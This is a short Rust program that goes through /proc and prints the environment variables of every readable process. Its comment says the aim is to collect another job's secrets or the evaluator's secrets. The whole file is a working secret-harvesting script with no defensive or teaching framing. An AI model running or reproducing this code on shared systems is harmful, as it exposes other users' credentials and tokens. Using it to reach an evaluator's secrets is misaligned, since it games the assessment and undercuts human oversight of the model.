// Reads every process's environment through /proc (another job's, or the evaluator's secrets).
use std::fs;

fn main() {
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let pid = entry.file_name().to_string_lossy().to_string();
        if !pid.chars().all(|c| c.is_ascii_digit()) {
            continue;
        }
        if let Ok(env) = fs::read(format!("/proc/{}/environ", pid)) {
            println!("{}: {}", pid, String::from_utf8_lossy(&env).replace('\0', " "));
        }
    }
}
